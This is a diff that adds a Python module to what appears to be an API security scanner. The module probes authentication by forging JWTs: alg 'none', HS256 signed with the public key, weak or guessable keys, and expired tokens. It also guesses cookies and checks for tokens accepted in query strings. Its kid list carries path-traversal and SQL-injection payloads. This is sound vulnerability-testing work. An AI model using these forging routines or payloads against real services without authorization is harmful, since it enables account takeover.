@@ -1,0 +1,232 @@
+"""Tokens and cookies that the service did not make, and that open what only an account may see (RFC 8725)."""
+
+from __future__ import annotations
+
+import base64
+import re
+import secrets
+import time
+from collections.abc import Iterator
+from urllib.parse import urlsplit
+
+from harness.probes.api_authentication import Gate
+from harness.probes.api_inputs import objects
+from harness.probes.api_request import NOBODY, ApiAccount, Hole, json_of, succeeded
+from harness.probes.api_tokens import (
+    UNSIGNED,
+    Jwt,
+    derived_from,
+    forge,
+    made,
+    pem_of,
+    read_jwt,
+    sealed_like,
+    unsealed,
+    weak_cookie_key,
+    weak_key,
+)
+from harness.probes.api_world import World
+from harness.probes.exchange import Exchange
+
+_LONGEST_WAIT_S = 8.0
+_KEY_PLACES = (
+    "/.well-known/jwks.json",
+    "/jwks.json",
+    "/jwks",
+    "/api/jwks.json",
+    "/api/.well-known/jwks.json",
+    "/oauth/jwks",
+    "/oauth2/jwks",
+    "/auth/jwks",
+    "/certs",
+    "/public-key",
+    "/public_key",
+    "/public.pem",
+    "/publickey.pem",
+    "/api/public-key",
+)
+_PEM = re.compile(r"-----BEGIN (?:RSA )?PUBLIC KEY-----.+?-----END (?:RSA )?PUBLIC KEY-----", re.DOTALL)
+_KIDS = (
+    ("../../../../../../dev/null", b""),
+    ("/dev/null", b""),
+    ("../../../../../../proc/sys/kernel/randomize_va_space", b"2\n"),
+    ("hx' UNION SELECT 'hxkey' -- ", b"hxkey"),
+    ("hx' UNION SELECT 'hxkey", b"hxkey"),
+)
+"""What a token may name its key by, and the key that this then is."""
+_TOKEN_WORDS = ("access_token", "token", "auth_token", "auth", "jwt", "api_key", "apikey", "authorization")
+
+
+def tokens_forged(world: World, gate: Gate) -> list[Hole]:
+    """Tokens that the service did not make, and that open the gate."""
+    account = gate.account
+    holes: list[Hole] = []
+    token = account.headers.get("Authorization", "").partition(" ")[2]
+    jwt = read_jwt(token)
+    if token and (seen := _opens(world, gate, f"hx{secrets.token_hex(16)}")) is not None:
+        return [_hole(gate, "takes a token that is made up", "any text", seen)]
+    if jwt is not None:
+        holes += _forged_jwt(world, gate, jwt)
+    elif token:
+        holes += _guessed(world, gate, token)
+    holes += _guessed_cookies(world, gate)
+    return holes
+
+
+def _forged_jwt(world: World, gate: Gate, jwt: Jwt) -> Iterator[Hole]:
+    own = {**jwt.header}
+    changed = f"{jwt.signed}.{jwt.signature[::-1]}"
+    if (seen := _opens(world, gate, changed)) is not None or (
+        seen := _opens(world, gate, forge({**own, "alg": "HS256"}, jwt.claims, secrets.token_bytes(32)))
+    ) is not None:
+        yield _hole(gate, "takes a token whose signature is not its own", "signed by another key", seen)
+        return
+    yield from _unsigned(world, gate, jwt)
+    key = weak_key(jwt, own_words(world))
+    if key is not None and (seen := _opens(world, gate, forge(jwt.header, {**jwt.claims, "hx": 1}, key.encode()))):
+        says = f"signs its tokens with {key!r}, which is on every list of words: a token made with it is taken"
+        yield _hole(gate, says, "weak key", seen)
+    for kid, secret in _KIDS:
+        token = forge({**own, "alg": "HS256", "kid": kid}, jwt.claims, secret)
+        if (seen := _opens(world, gate, token)) is not None:
+            yield _hole(gate, f"takes its key from where the token says (kid: {kid})", "kid", seen)
+            break
+    yield from _by_public_key(world, gate, jwt)
+    if "exp" not in jwt.claims:
+        seen = world.client.send(gate.account, gate.draft)
+        yield _hole(gate, "takes tokens that never end: they have no exp", "token without an end", seen)
+    elif key is not None:
+        past = {**jwt.claims, "exp": 1_000_000_000}
+        if (seen := _opens(world, gate, forge(jwt.header, past, key.encode()))) is not None:
+            yield _hole(gate, "takes a token that has ended (exp is in 2001)", "expired token", seen)
+    else:
+        yield from _outlived(world, gate, jwt)
+
+
+def _by_public_key(world: World, gate: Gate, jwt: Jwt) -> Iterator[Hole]:
+    """The public key, which anybody has, taken for the key of a signature by HMAC (RFC 8725, 2.1)."""
+    if jwt.algorithm.startswith("HS"):
+        return
+    for key in _public_keys(world):
+        token = forge({**jwt.header, "alg": "HS256"}, jwt.claims, key)
+        if (seen := _opens(world, gate, token)) is not None:
+            says = f"takes a token signed by HS256 with the public key of {jwt.algorithm} as its secret"
+            yield _hole(gate, says, "public key as a secret", seen)
+            return
+
+
+def _public_keys(world: World) -> Iterator[bytes]:
+    """Public keys that the service shows, in the forms in which they may be kept."""
+    for place in _KEY_PLACES:
+        seen = world.client.heard(NOBODY, "GET", place)
+        if seen is None or not succeeded(seen):
+            continue
+        pems = _PEM.findall(seen.text.replace("\\n", "\n"))
+        pems += [pem for each in objects(json_of(seen)) if (pem := pem_of(each)) is not None]
+        for pem in pems:
+            yield from (f"{pem}\n".encode(), pem.encode(), pem.replace("\n", "\r\n").encode())
+            yield base64.b64decode("".join(pem.split("\n")[1:-1]))
+
+
+def token_in_query(world: World, gate: Gate) -> list[Hole]:
+    """A token that opens the gate from the query too, where logs, histories and Referer keep it (RFC 9700, 4.3.2)."""
+    token = gate.account.headers.get("Authorization", "").partition(" ")[2]
+    sign = "&" if "?" in gate.draft.target else "?"
+
+    def asked(names: tuple[str, ...], value: str) -> Exchange | None:
+        words = "&".join(f"{name}={value}" for name in names)
+        return world.client.heard(NOBODY, "GET", f"{gate.draft.target}{sign}{words}")
+
+    if not token or not succeeded(asked(_TOKEN_WORDS, token)):
+        return []
+    for name in _TOKEN_WORDS:
+        seen = asked((name,), token)
+        if seen is not None and succeeded(seen) and not succeeded(asked((name,), f"hx{secrets.token_hex(12)}")):
+            return [_hole(gate, f"takes the token from the query too, as {name!r}", f"query parameter {name}", seen)]
+    return []
+
+
+def _unsigned(world: World, gate: Gate, jwt: Jwt) -> Iterator[Hole]:
+    for word in UNSIGNED:
+        for signature in ("", jwt.signature):
+            token = forge({**jwt.header, "alg": word}, jwt.claims, None) + signature
+            if (seen := _opens(world, gate, token)) is not None:
+                yield _hole(gate, f"takes a token without a signature (alg: {word})", "alg none", seen)
+                return
+
+
+def _outlived(world: World, gate: Gate, jwt: Jwt) -> Iterator[Hole]:
+    """A token that lives for seconds is waited for."""
+    if jwt.lifetime_s is None or jwt.lifetime_s > _LONGEST_WAIT_S:
+        return
+    account = world.login.enter("one user", gate.account.role, gate.account.username, gate.account.password)
+    time.sleep(jwt.lifetime_s + 1.5)
+    seen = world.client.tried(account, gate.draft)
+    if succeeded(seen) and seen is not None:
+        yield _hole(
+            gate, f"takes a token {jwt.lifetime_s:g} s after its making, when it had ended", "expired token", seen
+        )
+
+
+def _guessed(world: World, gate: Gate, token: str) -> Iterator[Hole]:
+    """A token that is the account's name in another form, or that is counted up."""
+    other = next((each for each in world.accounts if each is not gate.account and each.role == gate.account.role), None)
+    if other is None or "Authorization" not in other.headers:
+        return
+    theirs = other.headers["Authorization"].partition(" ")[2]
+    guess = _guess(token, gate.account.username, other.username)
+    if guess and guess == theirs:
+        seen = _opens(world, gate, guess)
+        if seen is not None:
+            yield _hole(gate, "gives tokens that are made from the account's name alone", "guessed token", seen)
+    elif token.isdigit() and theirs.isdigit() and abs(int(token) - int(theirs)) < 1000:
+        seen = world.client.send(gate.account, gate.draft)
+        yield _hole(gate, "gives tokens that are numbers counted up", "guessed token", seen)
+
+
+def _guess(token: str, own: str, other: str) -> str:
+    """The other account's token, as it follows from ours and both names; "" if it does not."""
+    way = derived_from(token, [own])
+    if way is not None:
+        return made(way[0], other)
+    text = unsealed(token)
+    if own and own in text:
+        return sealed_like(token, text.replace(own, other))
+    return token.replace(own, other) if own and own in token else ""
+
+
+def _guessed_cookies(world: World, gate: Gate) -> Iterator[Hole]:
+    other = next((each for each in world.accounts if each is not gate.account and each.role == gate.account.role), None)
+    for name, value in gate.account.cookies.items():
+        word = weak_cookie_key(value, own_words(world))
+        seen = world.client.tried(gate.account, gate.draft)
+        if word is not None and seen is not None:
+            says = f"signs the cookie {name} with {word!r}, which is on every list of words"
+            yield _hole(gate, says, f"cookie {name}", seen)
+        guess = _guess(value, gate.account.username, other.username) if other is not None else ""
+        if other is not None and guess and guess == other.cookies.get(name):
+            forged_one = ApiAccount(name="somebody else", cookies={**gate.account.cookies, name: guess})
+            seen = world.client.tried(forged_one, gate.draft)
+            if succeeded(seen) and seen is not None and other.username in seen.text:
+                yield _hole(gate, f"believes the cookie {name}, which is the account's name", f"cookie {name}", seen)
+
+
+def own_words(world: World) -> list[str]:
+    """Words of the service itself, which its makers may have taken for a key."""
+    host = urlsplit(world.login.info.url).hostname or ""
+    return [world.target.name, *re.split(r"[^a-z0-9]+", world.target.name), host.partition(".")[0]]
+
+
+def _opens(world: World, gate: Gate, token: str) -> Exchange | None:
+    """The answer that the token got, if it is let in twice."""
+    account = ApiAccount(name="a stranger", headers={**gate.account.headers, "Authorization": f"Bearer {token}"})
+    seen = world.client.tried(account, gate.draft)
+    if not succeeded(seen) or not succeeded(world.client.tried(account, gate.draft)):
+        return None
+    return seen
+
+
+def _hole(gate: Gate, says: str, parameter: str, seen: Exchange) -> Hole:
+    return Hole(
+        operation=gate.described.name, says=f"{says}: answered {seen.status}", parameter=parameter, proof=(seen,)
+    )
